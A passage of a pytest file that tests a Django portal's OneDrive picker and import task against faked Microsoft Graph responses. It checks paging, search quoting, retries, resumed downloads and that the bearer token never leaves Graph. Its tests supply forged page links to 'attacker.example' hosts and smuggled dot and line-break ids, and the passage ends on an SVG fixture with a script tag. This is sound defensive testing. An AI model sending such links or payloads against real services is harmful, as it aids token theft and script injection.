"""The OneDrive picker's and import task's Graph calls against Microsoft's answers, faked with `responses`.

Bodies are shaped like Microsoft Graph's (tests/microsoft/onedrive_*.json, graph_error_*.json): driveItems
with their `parentReference` and `file`/`folder` facets, `@odata.nextLink` pages, search results with
`searchResult`, and `{"error": {"code", "message", "innerError"}}` errors. The user's token is put in
place as a `MicrosoftAccount` row, as a completed sign-in leaves it.
"""
import functools
import re
from datetime import timedelta
from urllib.parse import parse_qsl, unquote, urlsplit

import pytest
import requests
import responses
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import timezone

from integrations.microsoft.graph import GraphClient
from mediaspace.ingest import entry_prepare
from mediaspace.models import MediaEntry
from mediaspace.roles import Role
from onedrive import drive, imports, signin, tasks
from onedrive.models import MicrosoftAccount, OneDriveModule
from tests.conftest import WEBM_HEAD
from tests.microsoft import (CLIENT_ID, GRAPH_URL, LOGIN_URL, OPENID_CONFIGURATION_URL, TENANT_ID, TOKEN_URL, cut_body,
                             load, make_jwt)

V1 = f"{GRAPH_URL}/v1.0"
PICKER = reverse("onedrive:picker")
SIGN_IN = reverse("onedrive:signin")
MY_MEDIA = reverse("mediaspace:my_media")

PAGE1, PAGE2 = load("onedrive_root_children_page1.json"), load("onedrive_root_children_page2.json")
VIDEOS = load("onedrive_folder_videos.json")
VIDEOS_CHILDREN = load("onedrive_folder_videos_children.json")
INTRO = load("onedrive_item_intro.json")
SEARCH = load("onedrive_search_bobs_talk.json")
DRIVE_ID = INTRO["parentReference"]["driveId"]
ROOT_CHILDREN = f"{V1}/me/drive/root/children"
FOLDER = f"{V1}/me/drive/items/{VIDEOS['id']}"
ITEM = f"{V1}/drives/{DRIVE_ID}/items/{INTRO['id']}"
CONTENT = f"{ITEM}/content"
# /content answers 302 to a short-lived pre-authenticated URL on SharePoint; its query carries its own token.
DOWNLOAD = (
    "https://contoso-my.sharepoint.com/personal/ann_lee_contoso_edu/_layouts/15/download.aspx"
    "?UniqueId=4f6c1b2e-8d3a-4c5f-9e7b-0a1d2c3b4e5f&Translate=false&tempauth=eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0"
    ".eyJhdWQiOiIwMDAwMDAwMy0wMDAwLTBmZjEtY2UwMC0wMDAwMDAwMDAwMDAifQ.&ApiVersion=2.0"
)
CLIP = WEBM_HEAD + b"video" * 1360  # Intro.webm: 6,864 bytes, as its driveItem says
assert len(CLIP) == INTRO["size"]
MiB = 1024 * 1024

TOKEN = make_jwt({
    "aud": "00000003-0000-0000-c000-000000000000", "iss": f"https://sts.windows.net/{TENANT_ID}/",
    "appid": CLIENT_ID, "scp": "Files.Read.All openid profile User.Read email", "tid": TENANT_ID,
    "oid": "3a9c1c8e-2f3e-4b6a-9d41-7c3f2b8e5a10", "upn": "ann.lee@contoso.edu", "ver": "1.0",
})


# -- set-up ----------------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def microsoft(settings):
    settings.MICROSOFT_LOGIN_URL = LOGIN_URL
    settings.MICROSOFT_GRAPH_URL = GRAPH_URL


@pytest.fixture(autouse=True)
def slept(monkeypatch):
    """What the users' Graph clients would have slept (Retry-After, backoff); nothing really sleeps."""
    waits = []
    monkeypatch.setattr(signin, "GraphClient", functools.partial(GraphClient, sleep=waits.append))
    return waits


@pytest.fixture
def module(db):
    module = OneDriveModule.load()
    module.enabled, module.application_id = True, CLIENT_ID
    module.save()
    return module


@pytest.fixture
def ann(make_user, module):
    """A portal user signed in to Microsoft (the implicit grant's token, an hour left)."""
    user = make_user(username="ann", role=Role.PRIVATE_ONLY)
    MicrosoftAccount.objects.create(
        user=user, tenant_id=TENANT_ID, object_id="3a9c1c8e-2f3e-4b6a-9d41-7c3f2b8e5a10",
        username="ann.lee@contoso.edu", display_name="Ann Lee", application_id=CLIENT_ID, access_token=TOKEN,
        expires_at=timezone.now() + timedelta(hours=1))
    return user


@pytest.fixture
def browser(ann, client_for):
    return client_for(ann)


@pytest.fixture
def queued(monkeypatch):
    """The import tasks the views queue, run by hand as the cluster would."""
    jobs = []
    monkeypatch.setattr(imports, "async_task", lambda func, *args, **kwargs: jobs.append((func, args)))

    def run():
        results = []
        while jobs:
            func, args = jobs.pop(0)
            assert func == "onedrive.tasks.import_file"
            results.append(tasks.import_file(*args))
        return results

    run.jobs = jobs
    return run


def calls_to(host):
    return [call for call in responses.calls if urlsplit(call.request.url).hostname == host]


def graph_calls():
    return calls_to("graph.microsoft.com")


def path_and_params(call):
    url = urlsplit(call.request.url)
    return unquote(url.path), dict(parse_qsl(url.query))


def text(response):
    return response.content.decode()


def names(response):
    return [entry.name for entry in response.context["listing"].entries]


def messages_of(response):
    return [str(message) for message in response.context["messages"]]


def flashed(response):
    """The messages a view left for the next page."""
    return [str(message) for message in get_messages(response.wsgi_request)]


def signed_in_again_to(next_url):
    from urllib.parse import urlencode
    return f"{SIGN_IN}?{urlencode({'next': next_url})}"


def account_expired(user):
    return MicrosoftAccount.objects.get(user=user).expires_at <= timezone.now()


# -- the picker: root, folders, pages ----------------------------------------------------------------------


@responses.activate
def test_the_root_lists_names_sizes_types_and_dates_with_the_users_token(browser):
    responses.get(ROOT_CHILDREN, json=PAGE1)

    page = browser.get(PICKER)

    assert page.status_code == 200
    (call,) = graph_calls()
    assert path_and_params(call) == ("/v1.0/me/drive/root/children", {"$top": "100", "$select": drive.SELECT})
    assert call.request.headers["Authorization"] == f"Bearer {TOKEN}"
    assert names(page) == ["Videos", "Lecture 1.mp4", "Notes.pdf"]
    html = text(page)
    assert f'value="{DRIVE_ID}/01BYE5RZ6QN3ZWBTUFOFD3GSPGOHDJD36K"' in html  # the video can be selected
    assert f'value="{DRIVE_ID}/01BYE5RZ2KXWOTNNU3B5BL4BGZLDUZ5DQW"' not in html  # the PDF cannot
    assert "Not a video, audio or image file" in html
    assert "50.0\xa0MiB" in html and "May 13, 2024" in html and "Folder (2)" in html
    assert TOKEN not in html


@responses.activate
def test_folders_have_a_drawn_icon_not_an_emoji(browser):
    # An emoji shows as an empty box where no emoji font is installed (many Linux desktops and servers).
    responses.get(ROOT_CHILDREN, json=PAGE1)
    html = text(browser.get(PICKER))
    link = re.search(r'<a href="\?folder=[^"]*">(.*?)</a>', html, re.S).group(1)
    assert re.search(r'^<svg [^>]*aria-hidden="true"[^>]*>.*</svg>\s*Videos$', link.strip(), re.S)
    assert "\U0001F4C1" not in html


@responses.activate
def test_the_next_page_is_fetched_from_the_link_kept_on_the_server(browser):
    responses.get(ROOT_CHILDREN, json=PAGE1)
    first = browser.get(PICKER)
    next_url = first.context["next_url"]
    token = dict(parse_qsl(urlsplit(next_url).query))["page"]
    # The browser only ever holds a random token: no Graph address, no skiptoken.
    assert "skiptoken" not in text(first) and "graph.microsoft.com" not in text(first)
    assert token not in PAGE1["@odata.nextLink"]

    responses.get(ROOT_CHILDREN, json=PAGE2)  # the same path: what matters is the exact URL asked for
    second = browser.get(next_url)

    assert second.status_code == 200
    assert names(second) == ["Podcast.mp3", "Cover.png", "Full day recording.mov"]
    assert len(graph_calls()) == 2
    asked, kept = urlsplit(graph_calls()[1].request.url), urlsplit(PAGE1["@odata.nextLink"])
    assert (asked.netloc, unquote(asked.path)) == (kept.netloc, unquote(kept.path))
    assert parse_qsl(asked.query) == parse_qsl(kept.query)  # the kept link, skiptoken and all, nothing added
    assert second.context["next_url"] == ""  # the last page
    assert "Larger than the 4.0\xa0GiB import limit" in text(second)


@pytest.mark.parametrize("page", [
    "https://graph.microsoft.com/v1.0/me/drive/root/children?$skiptoken=forged",
    "https://attacker.example/v1.0/me/drive/root/children",
    "//attacker.example/steal",
    "not-a-token-we-gave",
])
@responses.activate
def test_a_page_sent_by_the_browser_is_never_fetched(browser, page):
    response = browser.get(PICKER, {"page": page})

    assert (response.status_code, response["Location"]) == (302, PICKER)
    assert len(responses.calls) == 0  # nothing was asked of anybody, Graph included
    assert flashed(response) == ["That page of the list is no longer available; here is the first page."]


@responses.activate
def test_a_page_token_works_only_in_its_own_folder_and_session(browser, client_for, make_user):
    responses.get(ROOT_CHILDREN, json=PAGE1)
    responses.get(FOLDER, json=VIDEOS)
    token = dict(parse_qsl(urlsplit(browser.get(PICKER).context["next_url"]).query))["page"]

    in_a_folder = browser.get(PICKER, {"folder": VIDEOS["id"], "page": token})
    someone_else = make_user(role=Role.PRIVATE_ONLY)
    MicrosoftAccount.objects.create(user=someone_else, tenant_id=TENANT_ID, object_id="o2", application_id=CLIENT_ID,
                                    access_token=TOKEN, expires_at=timezone.now() + timedelta(hours=1))
    other_session = client_for(someone_else).get(PICKER, {"page": token})

    assert in_a_folder.status_code == 302 and in_a_folder["Location"] == f"{PICKER}?folder={VIDEOS['id']}"
    assert (other_session.status_code, other_session["Location"]) == (302, PICKER)
    # The root's first page only: a token of another folder or session is refused before Microsoft is asked,
    # and the kept link is never fetched.
    assert [path_and_params(call)[0] for call in graph_calls()] == ["/v1.0/me/drive/root/children"]


@responses.activate
def test_expired_page_token_says_so(browser):
    response = browser.get(PICKER, {"page": "Zm9yZ2Vk"}, follow=True)
    assert "That page of the list is no longer available; here is the first page." in messages_of(response)


@responses.activate
def test_a_next_link_to_another_host_is_not_followed(browser):
    tampered = dict(PAGE1, **{"@odata.nextLink": "https://graph.microsoft.com.attacker.example/v1.0/me/drive?x=1"})
    responses.get(ROOT_CHILDREN, json=tampered)
    next_url = browser.get(PICKER).context["next_url"]

    response = browser.get(next_url)

    assert response.status_code == 502
    assert "OneDrive could not be read just now" in text(response)
    assert calls_to("graph.microsoft.com.attacker.example") == []
    assert TOKEN not in text(response)


@responses.activate
def test_a_folder_is_read_then_its_children_page_by_page(browser):
    responses.get(FOLDER, json=VIDEOS)
    children = dict(VIDEOS_CHILDREN, **{
        "@odata.nextLink": f"{FOLDER}/children?$top=100&$select={drive.SELECT}&$skiptoken=UGFnZWQ9VFJVRSZwX0lEPTI"})
    responses.get(f"{FOLDER}/children", json=children)

    page = browser.get(PICKER, {"folder": VIDEOS["id"]})

    assert page.status_code == 200
    assert [path_and_params(call) for call in graph_calls()] == [
        (f"/v1.0/me/drive/items/{VIDEOS['id']}", {"$select": drive.SELECT}),
        (f"/v1.0/me/drive/items/{VIDEOS['id']}/children", {"$top": "100", "$select": drive.SELECT}),
    ]
    assert names(page) == ["2024", "Intro.webm"]
    html = text(page)
    assert '<span aria-current="page">Videos</span>' in html
    assert f'href="{PICKER}" rel="up"' in html  # Up: the root
    assert f'href="?folder={VIDEOS_CHILDREN["value"][0]["id"]}"' in html  # into the subfolder

    responses.get(FOLDER, json=VIDEOS)
    responses.get(f"{FOLDER}/children", json={"value": [dict(INTRO, id="01BYE5RZZZZZZPAGETWOITEMAAAAAAAAAA",
                                                              name="Outro.webm")]})
    second = browser.get(page.context["next_url"])
    assert names(second) == ["Outro.webm"]
    assert dict(parse_qsl(urlsplit(graph_calls()[-1].request.url).query))["$skiptoken"] == "UGFnZWQ9VFJVRSZwX0lEPTI"


@pytest.mark.parametrize("query, sent", [
    ("Bob's talk", "search(q='Bob''s talk')"),
    ("it's Ann's", "search(q='it''s Ann''s')"),
    ("C# 101?", "search(q='C# 101?')"),  # '#' and '?' are part of the query, not the URL's fragment or query
    ("50% / 100%", "search(q='50% / 100%')"),
])
@responses.activate
def test_search_sends_the_whole_query_with_quotes_doubled(browser, query, sent):
    responses.get(re.compile(re.escape(f"{V1}/me/drive/root/search") + ".*"), json=SEARCH)

    page = browser.get(PICKER, {"q": query})

    assert page.status_code == 200, text(page)
    (call,) = graph_calls()
    path, params = path_and_params(call)
    assert path == f"/v1.0/me/drive/root/{sent}"
    assert params == {"$top": "100"}
    assert names(page) == ["Bob's talk.mp4"]
    # A search result names its drive in parentReference: the checkbox carries drive id and item id.
    assert f'value="{DRIVE_ID}/{SEARCH["value"][0]["id"]}"' in text(page)


# -- the picker: Microsoft's errors ------------------------------------------------------------------------


@responses.activate
def test_401_invalid_token_sends_the_user_to_sign_in_again_and_back_to_the_folder(browser, ann):
    responses.get(FOLDER, status=401, json=load("graph_error_unauthorized.json"),
                  headers={"WWW-Authenticate": 'Bearer realm="", authorization_uri="https://login.microsoftonline.com'
                                                '/common/oauth2/authorize", client_id="00000003-0000-0000-c000-'
                                                '000000000000"'})

    response = browser.get(PICKER, {"folder": VIDEOS["id"]})

    assert (response.status_code, response["Location"]) == (302, signed_in_again_to(f"{PICKER}?folder={VIDEOS['id']}"))
    assert len(graph_calls()) == 1  # the revoked token is not sent again
    assert account_expired(ann)
    restarted = browser.get(response["Location"])  # and sign-in starts again, for the same folder
    assert restarted.status_code == 302 and restarted["Location"].startswith(f"{LOGIN_URL}/organizations/")


@responses.activate
def test_a_refresh_that_cannot_reach_microsoft_sends_the_user_to_sign_in_again(browser, ann, module):
    module.client_secret = "Qx58Q~not.a.real.secret.but.long.enough-1"  # the code flow: tokens are refreshed
    module.save()
    account = MicrosoftAccount.objects.get(user=ann)
    account.expires_at, account.refresh_token = timezone.now() - timedelta(minutes=1), "M.C507_BAY.0.U.-refresh"
    account.save()
    responses.get(OPENID_CONFIGURATION_URL, json=load("openid_configuration.json"))
    responses.post(TOKEN_URL, body=requests.ConnectionError("Connection reset by peer"))

    response = browser.get(PICKER, {"folder": VIDEOS["id"]})

    assert (response.status_code, response["Location"]) == (302, signed_in_again_to(f"{PICKER}?folder={VIDEOS['id']}"))
    assert graph_calls() == []  # no call without a token


@responses.activate
def test_404_item_not_found_goes_back_to_the_first_folder_with_a_message(browser):
    responses.get(FOLDER, status=404, json=load("graph_error_item_not_found.json"))
    responses.get(ROOT_CHILDREN, json=PAGE1)

    response = browser.get(PICKER, {"folder": VIDEOS["id"]}, follow=True)

    assert response.redirect_chain == [(PICKER, 302)]
    assert "That folder is not in your OneDrive any more; here is your OneDrive's first folder." in \
        messages_of(response)
    assert names(response) == ["Videos", "Lecture 1.mp4", "Notes.pdf"]


@responses.activate
def test_a_user_without_a_onedrive_gets_a_page_not_a_redirect_loop(browser):
    # /me/drive answers 404 while the user's OneDrive is not provisioned (or they have no licence for it).
    responses.get(ROOT_CHILDREN, status=404, json=load("graph_error_item_not_found.json"))

    response = browser.get(PICKER)

    assert response.status_code == 502  # a page, not a redirect to the root it is already on
    assert "Your OneDrive was not found" in text(response)
    assert "Microsoft has no OneDrive for your account (itemNotFound: The resource could not be found.)" in \
        text(response)
    assert len(graph_calls()) == 1


@responses.activate
def test_403_access_denied_is_a_clear_page(browser):
    responses.get(FOLDER, status=403, json=load("graph_error_access_denied.json"))

    response = browser.get(PICKER, {"folder": VIDEOS["id"]})

    assert response.status_code == 502
    assert "OneDrive could not be read just now (accessDenied: Access denied)." in text(response)
    assert len(graph_calls()) == 1


@responses.activate
def test_429_waits_for_retry_after_then_lists(browser, slept):
    responses.get(ROOT_CHILDREN, status=429, json=load("graph_error_activity_limit.json"), headers={"Retry-After": "4"})
    responses.get(ROOT_CHILDREN, json=PAGE1)

    response = browser.get(PICKER)

    assert response.status_code == 200 and names(response)[0] == "Videos"
    assert slept == [4]
    assert len(graph_calls()) == 2


@responses.activate
def test_429_asking_for_longer_than_a_page_can_wait_is_a_clear_page(browser, slept):
    responses.get(ROOT_CHILDREN, status=429, json=load("graph_error_activity_limit.json"),
                  headers={"Retry-After": "300"})

    response = browser.get(PICKER)

    assert response.status_code == 502
    assert "activityLimitReached: The app or user has been throttled." in text(response)
    assert slept == [] and len(graph_calls()) == 1


@responses.activate
def test_503_is_retried_then_a_clear_page(browser, slept):
    responses.get(ROOT_CHILDREN, status=503, json=load("graph_error_service_unavailable.json"))

    response = browser.get(PICKER)

    assert response.status_code == 502
    assert "serviceNotAvailable: The service is not available." in text(response)
    assert len(graph_calls()) == 3 and slept == [1, 2]


@responses.activate
def test_503_once_then_the_list(browser, slept):
    responses.get(ROOT_CHILDREN, status=503, json=load("graph_error_service_unavailable.json"),
                  headers={"Retry-After": "2"})
    responses.get(ROOT_CHILDREN, json=PAGE1)
    assert names(browser.get(PICKER)) == ["Videos", "Lecture 1.mp4", "Notes.pdf"]
    assert slept == [2]


@pytest.mark.parametrize("answer", [
    {"body": "<html><body><h1>Something went wrong</h1></body></html>", "content_type": "text/html"},
    {"body": '{"value": [', "content_type": "application/json"},
    {"json": ["not", "an", "object"]},
    {"json": {"value": 5}},
    {"json": {"value": "Videos"}},
    {"json": {"value": {"id": "x"}}},
], ids=["html", "cut json", "a list", "value a number", "value a string", "value an object"])
@responses.activate
def test_a_malformed_answer_is_a_clear_page_not_a_500(browser, answer):
    responses.get(ROOT_CHILDREN, **answer)

    response = browser.get(PICKER)

    assert response.status_code == 502
    assert "OneDrive could not be read just now" in text(response)
    assert ("Microsoft answered with something other than JSON" in text(response)
            or "Microsoft&#x27;s answer is not a list of files" in text(response))


@responses.activate
def test_malformed_items_are_left_out_of_a_page(browser):
    good = PAGE1["value"][1]
    responses.get(ROOT_CHILDREN, json={"value": [{"name": "no id"}, {"id": 7, "name": "number id"}, "a string",
                                                 None, good]})
    response = browser.get(PICKER)
    assert response.status_code == 200 and names(response) == ["Lecture 1.mp4"]


@responses.activate
def test_a_folder_answer_that_is_not_a_driveitem_is_not_a_500(browser):
    responses.get(FOLDER, json={"@odata.context": "x", "value": []})
    response = browser.get(PICKER, {"folder": VIDEOS["id"]})
    assert (response.status_code, response["Location"]) == (302, PICKER)
    assert flashed(response) == ["That folder is not in your OneDrive any more; here is your OneDrive's first "
                                 "folder."]


# -- "Import": the selected files are checked with Microsoft -------------------------------------------------


def select(browser, *items, back=PICKER):
    return browser.post(reverse("onedrive:import"), {"item": [f"{DRIVE_ID}/{item['id']}" for item in items],
                                                     "back": back})


@responses.activate
def test_import_reads_each_selected_item_and_creates_pending_entries(browser, ann, queued):
    responses.get(ITEM, json=INTRO)

    response = select(browser, INTRO)

    assert (response.status_code, response["Location"]) == (302, MY_MEDIA)
    (call,) = graph_calls()
    assert path_and_params(call) == (f"/v1.0/drives/{DRIVE_ID}/items/{INTRO['id']}", {"$select": drive.SELECT})
    entry = MediaEntry.objects.get(owner=ann)
    assert (entry.status, entry.name, entry.reference_id, entry.bytes_expected) == (
        MediaEntry.Status.PENDING, "Intro", f"{ann.pk}/{DRIVE_ID}/{INTRO['id']}", 6864)
    assert len(queued.jobs) == 1


@responses.activate
def test_a_pending_import_shows_its_name_size_and_that_it_waits_for_a_worker(browser, ann, queued):
    responses.get(ITEM, json=INTRO)
    select(browser, INTRO)
    entry = MediaEntry.objects.get(owner=ann)

    page = text(browser.get(MY_MEDIA))
    card = re.search(rf'<li class="card" data-entry="{entry.pk}".*?</li>', page, re.S).group(0)
    meta = re.search(r'<div class="meta">(.*?)</div>', card, re.S).group(1)
    status = browser.get(reverse("mediaspace:my_media_status"), {"ids": entry.pk}).json()[str(entry.pk)]

    assert re.search(r'class="card-title">Intro</a>', card)
    assert "media" not in meta and re.search(r"6\.7\xa0Ki?B", meta)  # 6,864 bytes, as Microsoft said
    assert "Waiting for a worker" in card
    bar = re.search(r"<progress[^>]*>", card).group(0)
    assert "value=" not in bar  # no progress yet: the bar says "busy", not "0 %"
    assert (status["status_label"], status["percent"]) == ("Waiting for a worker", None)  # what the page polls
    assert re.search(r"<strong[^>]*>Waiting for a worker</strong>", text(browser.get(entry.get_absolute_url())))


@pytest.mark.parametrize("dots", [".", ".."])
@responses.activate
def test_dot_ids_are_refused_before_microsoft_is_asked(browser, ann, queued, module, dots):
    # "items/.." would be read as the path's parent (the drive itself), "items/." as the item list: never an item.
    folder = browser.get(PICKER, {"folder": dots})
    imported = browser.post(reverse("onedrive:import"), {"item": [f"{DRIVE_ID}/{dots}", f"{dots}/{INTRO['id']}"],
                                                          "back": PICKER})

    assert (folder.status_code, folder["Location"]) == (302, PICKER)
    assert flashed(folder) == ["That folder address is not valid; here is your OneDrive's first folder."]
    assert (imported.status_code, imported["Location"]) == (302, PICKER)
    assert flashed(imported)[-2:] == [f"Not imported: {DRIVE_ID}/{dots} (This is not a OneDrive file of yours.).",
                                      f"Not imported: {dots}/{INTRO['id']} (This is not a OneDrive file of yours.)."]
    with pytest.raises(ValueError):
        drive.item(signin.graph_for_user(ann, module), module, DRIVE_ID, dots)
    assert len(responses.calls) == 0 and not MediaEntry.objects.exists()


@pytest.mark.parametrize("end", ["\n", "\r\n", "\t"])
@responses.activate
def test_an_id_with_a_line_break_after_it_is_refused_before_microsoft_is_asked(browser, ann, queued, module, end):
    # The id pattern's "$" also matched before a final line break: "items/<id>%0A" reached Graph.
    imported = browser.post(reverse("onedrive:import"), {"item": [f"{DRIVE_ID}/{INTRO['id']}{end}"], "back": PICKER})

    assert (imported.status_code, imported["Location"]) == (302, PICKER)
    assert flashed(imported)[-1].endswith("(This is not a OneDrive file of yours.).")
    with pytest.raises(ValueError):
        drive.item(signin.graph_for_user(ann, module), module, DRIVE_ID + end, INTRO["id"])
    assert len(responses.calls) == 0 and not MediaEntry.objects.exists()


@responses.activate
def test_import_of_a_file_gone_from_onedrive_is_refused_with_a_message(browser, ann, queued):
    responses.get(ITEM, status=404, json=load("graph_error_item_not_found.json"))
    response = select(browser, INTRO)
    assert (response.status_code, response["Location"]) == (302, PICKER)
    assert flashed(response) == [f"Not imported: {INTRO['id']} (The file is no longer in your OneDrive.)."]
    assert not MediaEntry.objects.filter(owner=ann).exists() and queued.jobs == []


@responses.activate
def test_import_with_a_revoked_token_sends_the_user_to_sign_in_again(browser, ann, queued):
    responses.get(ITEM, status=401, json=load("graph_error_unauthorized.json"))
    back = f"{PICKER}?folder={VIDEOS['id']}"
    response = select(browser, INTRO, back=back)
    assert (response.status_code, response["Location"]) == (302, signed_in_again_to(back))
    assert not MediaEntry.objects.filter(owner=ann).exists() and account_expired(ann)


@responses.activate
def test_import_when_microsoft_refuses_or_answers_garbage_creates_nothing(browser, ann, queued):
    responses.get(ITEM, status=403, json=load("graph_error_access_denied.json"))
    denied = select(browser, INTRO)
    responses.replace(responses.GET, ITEM, body="<html>oops</html>", content_type="text/html")
    garbage = select(browser, INTRO)
    assert (denied.status_code, denied["Location"], garbage.status_code) == (302, PICKER, 302)
    assert flashed(denied) == ["OneDrive could not be read just now (accessDenied: Access denied). Nothing was "
                               "imported; try again in a moment."]
    assert flashed(garbage)[-1:] == ["OneDrive could not be read just now (Microsoft answered with something other than "
                                "JSON). Nothing was imported; try again in a moment."]
    assert not MediaEntry.objects.filter(owner=ann).exists() and queued.jobs == []


# -- the import task ---------------------------------------------------------------------------------------


def pending(user, item=INTRO):
    entry, _created = entry_prepare(source=MediaEntry.Source.ONEDRIVE,
                                    reference_id=imports.reference_for(user, DRIVE_ID, item["id"]),
                                    owner=user, name="Intro", bytes_expected=item["size"])
    return entry


def run_task(entry):
    status = tasks.import_file(entry.pk)
    entry.refresh_from_db()
    return status, entry


@responses.activate
def test_the_task_follows_the_content_redirect_without_the_token(ann, media_root):
    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=302, headers={"Location": DOWNLOAD})
    responses.get(DOWNLOAD, body=CLIP, headers={"Content-Type": "application/octet-stream"})

    status, entry = run_task(pending(ann))

    assert status == MediaEntry.Status.READY, entry.error
    assert entry.media.read() == CLIP and entry.size == len(CLIP) and entry.content_type == "video/webm"
    assert [urlsplit(call.request.url).hostname for call in responses.calls] == [
        "graph.microsoft.com", "graph.microsoft.com", "contoso-my.sharepoint.com"]
    assert all(call.request.headers["Authorization"] == f"Bearer {TOKEN}" for call in graph_calls())
    (download,) = calls_to("contoso-my.sharepoint.com")
    assert "Authorization" not in download.request.headers  # the bearer token never leaves Graph
    assert TOKEN not in str(download.request.headers) and download.request.url == DOWNLOAD


@responses.activate
def test_a_download_cut_mid_body_resumes_with_range(ann, media_root):
    # The task reads 1 MiB chunks: the connection drops 1000 bytes into the third; the whole chunks are kept.
    big = (WEBM_HEAD + bytes(range(256)) * 10_000)[: 2 * MiB + 500_000]
    cut_at, kept = 2 * MiB + 1000, 2 * MiB
    responses.get(ITEM, json=dict(INTRO, size=len(big)))
    responses.get(CONTENT, status=302, headers={"Location": DOWNLOAD})
    responses.get(DOWNLOAD, body=cut_body(big[:cut_at]), headers={"Content-Length": str(len(big))},
                  auto_calculate_content_length=False)
    responses.get(DOWNLOAD, status=206, body=big[kept:], headers={
        "Content-Length": str(len(big) - kept), "Content-Range": f"bytes {kept}-{len(big) - 1}/{len(big)}"})

    status, entry = run_task(pending(ann, dict(INTRO, size=len(big))))

    assert status == MediaEntry.Status.READY, entry.error
    assert entry.media.read() == big
    downloads = calls_to("contoso-my.sharepoint.com")
    assert [call.request.headers.get("Range") for call in downloads] == [None, f"bytes={kept}-"]
    assert all("Authorization" not in call.request.headers for call in downloads)
    content_calls = [call for call in graph_calls() if urlsplit(call.request.url).path.endswith("/content")]
    assert len(content_calls) == 2  # a fresh pre-authenticated URL for the resume, asked with the token
    assert all(call.request.headers["Authorization"] == f"Bearer {TOKEN}" for call in content_calls)


@responses.activate
def test_a_file_gone_before_the_task_ran_fails_with_why(ann):
    responses.get(ITEM, status=404, json=load("graph_error_item_not_found.json"))
    status, entry = run_task(pending(ann))
    assert status == MediaEntry.Status.FAILED
    assert entry.error == "The file is no longer in your OneDrive (it was moved or deleted)."
    assert len(responses.calls) == 1


@responses.activate
def test_content_gone_between_item_and_download_fails_with_why(ann):
    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=404, json=load("graph_error_item_not_found.json"))
    status, entry = run_task(pending(ann))
    assert (status, entry.error) == (MediaEntry.Status.FAILED,
                                     "The file is no longer in your OneDrive (it was moved or deleted).")


@responses.activate
def test_a_revoked_token_fails_the_import_with_a_reason_to_sign_in_again(ann):
    responses.get(ITEM, status=401, json=load("graph_error_unauthorized.json"))

    status, entry = run_task(pending(ann))

    assert status == MediaEntry.Status.FAILED
    assert "sign in again" in entry.error and "Import from OneDrive" in entry.error and "Retry" in entry.error
    assert len(responses.calls) == 1 and account_expired(ann)


@responses.activate
def test_access_denied_on_the_content_fails_with_microsofts_reason(ann):
    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=403, json=load("graph_error_access_denied.json"))
    status, entry = run_task(pending(ann))
    assert status == MediaEntry.Status.FAILED
    assert entry.error == "OneDrive refused or interrupted the download: accessDenied: Access denied"
    assert calls_to("contoso-my.sharepoint.com") == []


@responses.activate
def test_429_on_the_item_is_waited_out_then_the_import_completes(ann, slept, media_root):
    responses.get(ITEM, status=429, json=load("graph_error_activity_limit.json"), headers={"Retry-After": "17"})
    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=302, headers={"Location": DOWNLOAD})
    responses.get(DOWNLOAD, body=CLIP)

    status, entry = run_task(pending(ann))

    assert status == MediaEntry.Status.READY, entry.error
    assert slept == [17]


@responses.activate
def test_429_on_the_content_is_waited_out_too(ann, slept, media_root):
    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=429, json=load("graph_error_activity_limit.json"), headers={"Retry-After": "9"})
    responses.get(CONTENT, status=302, headers={"Location": DOWNLOAD})
    responses.get(DOWNLOAD, body=CLIP)
    status, entry = run_task(pending(ann))
    assert (status, slept) == (MediaEntry.Status.READY, [9])


@responses.activate
def test_a_retry_after_longer_than_a_worker_waits_fails_visibly(ann, slept):
    responses.get(ITEM, status=429, json=load("graph_error_activity_limit.json"), headers={"Retry-After": "3600"})
    status, entry = run_task(pending(ann))
    assert status == MediaEntry.Status.FAILED
    assert "activityLimitReached: The app or user has been throttled." in entry.error
    assert slept == []


@responses.activate
def test_503_until_the_tries_run_out_fails_with_why(ann, slept):
    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=503, json=load("graph_error_service_unavailable.json"))
    status, entry = run_task(pending(ann))
    assert status == MediaEntry.Status.FAILED
    assert "serviceNotAvailable: The service is not available." in entry.error
    assert len([c for c in graph_calls() if c.request.url == CONTENT]) == 8
    assert slept == [1, 2, 4, 8, 16, 32, 60]


@pytest.mark.parametrize("answer", [
    {"body": "<html><body>Service Unavailable</body></html>", "content_type": "text/html"},
    {"json": ["not", "an", "object"]},
    {"json": {"id": INTRO["id"]}},  # no name
    {"json": {"error": "not Graph's shape"}},
], ids=["html", "a list", "no name", "odd"])
@responses.activate
def test_a_malformed_item_fails_the_import_with_a_clear_reason(ann, answer):
    responses.get(ITEM, **answer)
    status, entry = run_task(pending(ann))
    assert status == MediaEntry.Status.FAILED
    assert entry.error in ("Microsoft's answer for this file could not be read.",
                           "OneDrive refused or interrupted the download: Microsoft answered with something other "
                           "than JSON")
    assert calls_to("contoso-my.sharepoint.com") == []


@responses.activate
def test_a_file_over_the_limit_is_refused_before_any_download(ann, module):
    module.max_import_size_mb = 1
    module.save()
    responses.get(ITEM, json=dict(INTRO, size=2 * 1024 * 1024))
    status, entry = run_task(pending(ann))
    assert status == MediaEntry.Status.FAILED and "Larger than the 1.0\xa0MiB import limit" in entry.error
    assert [urlsplit(c.request.url).path.endswith("/content") for c in responses.calls] == [False]


@responses.activate
def test_a_failed_import_can_be_retried_and_then_completes(browser, ann, queued, media_root):
    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=403, json=load("graph_error_access_denied.json"))
    select(browser, INTRO)
    assert queued() == [MediaEntry.Status.FAILED]
    entry = MediaEntry.objects.get(owner=ann)

    responses.get(ITEM, json=INTRO)
    responses.get(CONTENT, status=302, headers={"Location": DOWNLOAD})
    responses.get(DOWNLOAD, body=CLIP)
    retried = browser.post(reverse("onedrive:retry", args=[entry.pk]))

    assert (retried.status_code, retried["Location"]) == (302, MY_MEDIA)
    assert queued() == [MediaEntry.Status.READY]
    entry.refresh_from_db()
    assert entry.media.read() == CLIP and entry.error == ""


# -- active content (issue 13): Microsoft's reported type and name are never what is stored or served ----------

LOGO_SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>'
